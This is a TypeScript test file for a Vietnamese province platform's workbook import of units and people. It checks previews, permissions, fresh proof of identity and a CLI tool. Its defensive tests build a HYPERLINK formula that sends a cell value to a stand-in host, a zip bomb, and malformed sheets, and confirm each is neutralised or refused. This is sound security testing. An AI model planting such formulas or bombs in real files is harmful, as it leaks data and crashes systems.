import { verifyJournal } from '@thidua/api/platform/journal/verify';
import type { ImportView } from '@thidua/workflows/import/import.schema';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import readWorkbook from 'read-excel-file/universal';
import type { Browser } from '../support/client.js';
import { thidua } from '../support/command.js';
import { codeShown, enrol } from '../support/factor.js';
import { makeSmallBloc, type SmallBloc } from '../support/small-bloc.js';
import { sendWorkbook, UNIT_HEADINGS, WHOLE, workbook, type TestCell } from '../support/workbooks.js';

import { PASSWORD, startWorld, type World } from '../support/world.js';

const PROVINCE = 'tinh-khoi-nho';
let world: World;
let bloc: SmallBloc;
let council: Browser;
beforeAll(async () => {
  world = await startWorld();
  bloc = await makeSmallBloc(world);
  await makeSmallBloc(world, 'khoi-khac');
  council = await bloc.person('council');
});
afterAll(() => world.close());

type Refused = ImportView & { code?: string; detail?: string };
const send = (bytes: Uint8Array, query = 'dryRun=true', by: Browser = council) => sendWorkbook<Refused>(by, PROVINCE, bytes, query);
const make = (bytes: Uint8Array, sha256: string) => send(bytes, `dryRun=false&sha256=${sha256}`);
const count = async (table: string): Promise<number> =>
  (await world.owner.query<{ n: number }>(`select count(*)::int as n from ${table}`)).rows[0]!.n;
const counts = async () => Promise.all(['unit', 'unit_name', 'person', 'account', 'post', 'province_journal', 'delivery'].map(count));

describe('an import of units and people', () => {
  it('begins with a template that says what to write, in the reader’s language, and imports nothing by itself', async () => {
    const english = world.stranger();
    expect((await english.get(`/api/provinces/${PROVINCE}/import-template`)).status).toBe(401);
    const answer = await council.get(`/api/provinces/${PROVINCE}/import-template`);
    expect(answer.headers.get('content-disposition')).toContain('M%E1%BA%ABu');
    const sheets = await readWorkbook(new Uint8Array(answer.bytes).buffer);
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Đơn vị', 'Người']);
    expect(sheets[0]!.data[0]).toEqual(UNIT_HEADINGS.map((heading) => (heading === 'E-mail' ? heading : `${heading} *`)));
    expect(String(sheets[0]!.data[1]![0])).toMatch(/^▸ chữ thường/);
    const empty = await send(answer.bytes);
    expect(empty.body.findings.map(({ code }) => code)).toEqual(['import-empty']);
  });

  it('shows what a file would make and makes nothing yet; then makes all of it, enters each record, and invites each person', async () => {
    const bytes = await workbook(WHOLE);
    const before = await counts();
    const preview = await send(bytes);
    expect(preview).toMatchObject({ status: 200, body: { made: false, units: 2, people: 2, posts: 3, findings: [] } });
    expect(await counts()).toEqual(before);
    expect((await make(bytes, preview.body.sha256)).body).toMatchObject({ made: true, units: 2, people: 2, posts: 3 });
    expect(await counts()).toEqual([2, 2, 2, 2, 3, 4, 2].map((more, at) => before[at]! + more));

    const { rows } = await world.owner.query(
      `select p.name, a.email, a.password_hash as password, po.role, po.title, u.code, b.slug, po.valid_from::text as "from", po.valid_to::text as "to"
         from person p join account a on a.person_id = p.id join post po on po.person_id = p.id
         left join unit u on u.id = po.unit_id left join bloc b on b.id = po.bloc_id
        where a.email in ('xay@tinh.example', 'hoc@tinh.example') order by a.email, po.role`,
    );
    const hoc = { name: 'Đỗ Văn Học', email: 'hoc@tinh.example', password: null, from: '2020-01-01' };
    expect(rows).toEqual([
      { ...hoc, role: 'observer', title: 'Quan sát viên', code: null, slug: 'khoi-nho', to: null },
      { ...hoc, role: 'unit-officer', title: '=Chuyên viên', code: 'u3', slug: null, to: '2030-12-31' },
      {
        ...{ ...hoc, name: 'Ngô Thị Xây', email: 'xay@tinh.example' },
        ...{ role: 'unit-head', title: 'Chủ tịch', code: 'hoi-xay-dung', slug: null, to: null },
      },
    ]);
    const names = await world.owner.query(`select name, valid_from::text as "from" from unit_name where name like 'Hội Khuyến học%'`);
    expect(names.rows).toEqual([{ name: 'Hội Khuyến học tỉnh Bắc Giang', from: '2020-01-01' }]);
    const letters = await world.owner.query(
      `select address, recipient_name as name from delivery where letter = 'account-invited' and address like '%@tinh.example' order by 1`,
    );
    expect(letters.rows).toEqual([
      { address: 'hoc@tinh.example', name: 'Đỗ Văn Học' },
      { address: 'xay@tinh.example', name: 'Ngô Thị Xây' },
    ]);
    const entries = await world.owner.query(
      `select j.record_kind as kind, count(*)::int as n from province_journal j where j.body::json ->> 'importedFrom' = $1 group by 1 order by 1`,
      [preview.body.sha256],
    );
    expect(entries.rows).toEqual([
      { kind: 'Person', n: 2 },
      { kind: 'Unit', n: 2 },
    ]);
    expect((await verifyJournal(world.owner, 'province_journal')).broken).toBeNull();

    const again = await send(bytes);
    expect(again.body.findings.map(({ sheet, cell, code }) => `${sheet}!${cell} ${code}`)).toEqual([
      'Đơn vị!A2 import-code-taken',
      'Đơn vị!A3 import-code-taken',
      'Người!B2 import-address-taken',
      'Người!C2 unit-has-head',
      'Người!B3 import-address-taken',
    ]);
    expect((await make(bytes, again.body.sha256)).body).toMatchObject({ code: 'import-faulty' });
  });

  it('names each bad cell, what is wrong and what to write instead, in the reader’s language', async () => {
    const bytes = await workbook({
      Units: [UNIT_HEADINGS, ['Hội A', 'Hội A tỉnh', 'Hội A', 'A', null, 'mai'], ['u1', 'Hội B tỉnh', 'Hội B', null, 'b', '01/01/2020']],
      People: [
        ['Name', 'E-mail', 'Role', 'Title', 'Unit code', 'From'],
        ['Ai Đó', 'ai@tinh.example', 'Quản trị hệ thống', 'Quản trị', null, '01/01/2020'],
      ],
    });
    const vi = await send(bytes);
    expect(vi.body.findings).toEqual(
      expect.arrayContaining([
        {
          ...{ sheet: 'Units', cell: 'A2', code: 'import-wrong-cell', detail: 'Ô “Mã đơn vị” chưa đúng dạng.' },
          next: 'Điền chữ thường không dấu, số và gạch nối, như hoi-nha-bao.',
        },
        expect.objectContaining({ sheet: 'People', cell: 'C2', code: 'post-not-yours' }) as object,
      ]),
    );
    expect(vi.body.findings.map(({ cell }) => cell)).toEqual(['A2', 'D2', 'F2', 'D3', 'E3', 'A3', 'C2']);
    const english = (await world.signIn('council@khoi-nho.example')).speaking('en');
    expect((await send(bytes, 'dryRun=true', english)).body.findings[0]).toMatchObject({
      detail: '“Unit code” is not of the right form.',
      next: 'Write small letters, digits and hyphens, such as hoi-nha-bao.',
    });
  });

  it('is not made by an open session alone: who imports has shown lately that it is them', async () => {
    const bytes = await workbook({
      'Đơn vị': [UNIT_HEADINGS, ['bo-ngo', 'Hội Bỏ ngỏ tỉnh', 'Hội Bỏ ngỏ', 'Left open', null, '01/01/2020']],
    });
    const { body } = await send(bytes);
    await world.owner.query(`update session set proved_at = clock_timestamp() - interval '11 minutes'`);
    expect((await make(bytes, body.sha256)).body).toMatchObject({ status: 403, code: 'needs-fresh-proof' });
    expect((await world.owner.query(`select 1 from unit where code = 'bo-ngo'`)).rows).toEqual([]);
    await world.owner.query('update session set proved_at = clock_timestamp()');
    expect((await make(bytes, body.sha256)).status).toBe(200);
  });

  it('makes only the file that was previewed', async () => {
    const [seen, other] = await Promise.all(
      ['a-mot', 'a-hai'].map((code) => workbook({ 'Đơn vị': [UNIT_HEADINGS, [code, 'Hội A tỉnh', 'Hội A', 'An A', null, '01/01/2020']] })),
    );
    const preview = await send(seen!);
    const before = await counts();
    for (const query of [`dryRun=false&sha256=${preview.body.sha256}`, 'dryRun=false'])
      expect((await send(other!, query)).body.code).toBe('import-other-file');
    expect(await counts()).toEqual(before);
  });

  it('makes nothing when one record fails at last', async () => {
    const rows: TestCell[][] = Array.from({ length: 40 }, (_, n) => [
      `loat-${n}`,
      `Hội Loạt ${n}`,
      `Loạt ${n}`,
      `Row ${n}`,
      null,
      '01/01/2020',
    ]);
    const bytes = await workbook({ 'Đơn vị': [UNIT_HEADINGS, ...rows] });
    const { sha256 } = (await send(bytes)).body;
    const before = await counts();
    await world.owner.query(`create function fail_last() returns trigger language plpgsql as $$
      begin if new.code = 'loat-39' then raise unique_violation; end if; return new; end $$`);
    await world.owner.query('create trigger fail_last before insert on unit for each row execute function fail_last()');
    expect((await make(bytes, sha256)).body).toMatchObject({ code: 'already-exists', detail: 'Đã có loat-39 này.' });
    expect(await counts()).toEqual(before);
    await world.owner.query('drop trigger fail_last on unit');
    expect((await make(bytes, sha256)).body).toMatchObject({ made: true, units: 40 });
  });

  it('is of those who make units and people of the province, and tells others nothing of the file', async () => {
    const bytes = await workbook(WHOLE);
    expect((await send(bytes, 'dryRun=true', world.stranger())).status).toBe(401);
    for (const [person, code] of [
      [await bloc.person('secretary'), 'forbidden'],
      [await bloc.person('u1.head'), 'forbidden'],
      [await world.signIn('council@khoi-khac.example'), 'not-found'],
    ] as const)
      for (const query of ['dryRun=true', 'dryRun=false']) expect((await send(bytes, query, person)).body).toMatchObject({ code });
    expect((await send(bytes, 'dryRun=true', await world.admin())).status).toBe(200);
  });
});

describe('thidua import', () => {
  const run = (file: string, ...more: string[]) =>
    thidua({ ...world, environment: { THIDUA_PASSWORD: PASSWORD, PUBLIC_URL: world.url } }, ['import', PROVINCE, file, ...more]);
  const council = ['--as', 'council@khoi-nho.example'];

  it('names the cells of a file, or imports it, as the person who is named', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'thidua-import-'));
    const [bad, good] = [join(folder, 'bad.xlsx'), join(folder, 'good.xlsx')];
    await writeFile(bad, await workbook({ 'Đơn vị': [UNIT_HEADINGS, ['Hội', 'Hội A', 'Hội A', 'A A', null, '01/01/2020']] }));
    await writeFile(
      good,
      await workbook({ 'Đơn vị': [UNIT_HEADINGS, ['tu-lenh', 'Hội Lệnh', 'Hội L', 'By command', null, '01/01/2020']] }),
    );
    const before = await counts();
    const refused = await run(bad, ...council);
    expect(refused).toMatchObject({ code: 1, said: expect.stringContaining('Đơn vị!A2: Ô “Mã đơn vị” chưa đúng dạng.') as string });
    expect(await run(good, ...council, '--dry-run')).toMatchObject({ code: 0, said: expect.stringContaining('chưa lập gì') as string });
    expect(await counts()).toEqual(before);
    expect(await run(good, ...council)).toMatchObject({ code: 0, said: expect.stringContaining('Đã nhập / Imported: 1 đơn vị') as string });
    const { rows } = await world.owner.query(
      `select p.name from unit u join province_journal j on j.record_id = u.id join person p on p.id = (j.body::json -> 'actor' ->> 'person')::uuid where u.code = 'tu-lenh'`,
    );
    expect(rows).toEqual([{ name: 'Người council' }]);
    expect(await run(good, '--as', 'secretary@khoi-nho.example')).toMatchObject({
      code: 1,
      said: expect.stringContaining('quyền') as string,
    });
    expect((await run(good)).code).toBe(2);
  });

  it('asks whoever has a second factor for its code, and takes it with --code', async () => {
    const { secret } = await enrol(world, 'council@khoi-nho.example');
    const file = join(await mkdtemp(join(tmpdir(), 'thidua-import-')), 'file.xlsx');
    await writeFile(file, await workbook({ 'Đơn vị': [UNIT_HEADINGS, ['bang-ma', 'Hội Mã', 'Hội M', 'By code', null, '01/01/2020']] }));
    const before = await counts();
    expect(await run(file, ...council)).toMatchObject({ code: 1, said: expect.stringContaining('6 chữ số') as string });
    expect(await run(file, ...council, '--code', '000000')).toMatchObject({ code: 1, said: expect.stringContaining('mã') as string });
    expect(await counts()).toEqual(before);
    const code = await codeShown(secret, 1);
    expect(await run(file, ...council, '--code', code)).toMatchObject({ code: 0, said: expect.stringContaining('1 đơn vị') as string });
  });
});

describe('a formula', () => {
  /** A workbook of one unit, with another cell in place of its short name. */
  async function withCell(cell: string): Promise<Uint8Array> {
    const unit = ['hoi-cong-thuc', 'Hội Công thức tỉnh Bắc Giang', 'Hội Công thức', 'Formula Association', null, '01/01/2020'];
    const files = unzipSync(await workbook({ 'Đơn vị': [UNIT_HEADINGS, unit] }));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    const changed = sheet.replace(/<c r="C2".*?<\/c>/, cell);
    expect(changed).not.toBe(sheet);
    return zipSync({ ...files, 'xl/worksheets/sheet1.xml': strToU8(changed) });
  }
  const LINK = '<f>HYPERLINK("http://la.example/?x="&amp;A2,"Hội")</f>';

  it('stands in no cell of the template: every one is text', async () => {
    const { bytes } = await council.get(`/api/provinces/${PROVINCE}/import-template`);
    const sheets = Object.entries(unzipSync(new Uint8Array(bytes))).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets).toHaveLength(2);
    for (const [, xml] of sheets) expect(strFromU8(xml)).not.toMatch(/<f[ >]|<hyperlink/);
  });

  it('of a workbook is never reckoned: its cell is the value that the sender’s program left, or empty', async () => {
    const bare = await send(await withCell(`<c r="C2" t="str">${LINK}</c>`));
    expect(bare.body.findings).toMatchObject([{ sheet: 'Đơn vị', cell: 'C2' }]);
    const valued = await withCell(`<c r="C2" t="str">${LINK}<v>=Hội Công thức</v></c>`);
    expect((await make(valued, (await send(valued)).body.sha256)).body).toMatchObject({ made: true });
    const { rows } = await world.owner.query(
      `select u.code from unit u join unit_name n on n.unit_id = u.id where n.short_name = '=Hội Công thức'`,
    );
    expect(rows).toEqual([{ code: 'hoi-cong-thuc' }]);
  });
});

describe('a file that is no workbook of people', () => {
  it('is refused before it is read: other types, other content, too large a one', async () => {
    expect((await council.post(`/api/provinces/${PROVINCE}/imports`, { rows: [] })).body.code).toBe('import-unreadable');
    expect((await send(Buffer.from('no zip at all'))).body.code).toBe('import-unreadable');
    expect((await send(Buffer.alloc(1_048_577))).body.code).toBe('too-large');
  });

  it('that would unpack to many megabytes is refused, and the program goes on', async () => {
    const whole = unzipSync(await workbook(WHOLE));
    const bomb = zipSync({ ...whole, 'xl/worksheets/sheet2.xml': new Uint8Array(40_000_000) }, { level: 6 });
    expect(bomb.length).toBeLessThan(200_000);
    expect((await send(bomb)).body.code).toBe('import-unreadable');
    expect((await send(await workbook(WHOLE))).status).toBe(200);
  });

  it('whose few bytes claim the last cell of the sheet is refused, and the program goes on', async () => {
    const files = unzipSync(await workbook({ 'Đơn vị': [UNIT_HEADINGS] }));
    const sheet = `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
      <row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>`;
    const claiming = zipSync({ ...files, 'xl/worksheets/sheet1.xml': strToU8(sheet) });
    expect((await send(claiming)).body.code).toBe('import-unreadable');
    expect((await send(await workbook(WHOLE))).status).toBe(200);
  });

  it.each(['&#xD83D;', '&#0;'])('with a character that nobody can keep is refused: %s', async (half) => {
    const files = Object.entries(unzipSync(await workbook(WHOLE))).map(([name, part]) => [
      name,
      name.endsWith('.xml') ? strToU8(strFromU8(part).replaceAll('Hội Xây dựng tỉnh', `Hội ${half} tỉnh`)) : part,
    ]);
    expect((await send(zipSync(Object.fromEntries(files) as Record<string, Uint8Array>))).body.code).toBe('import-unreadable');
  });
});
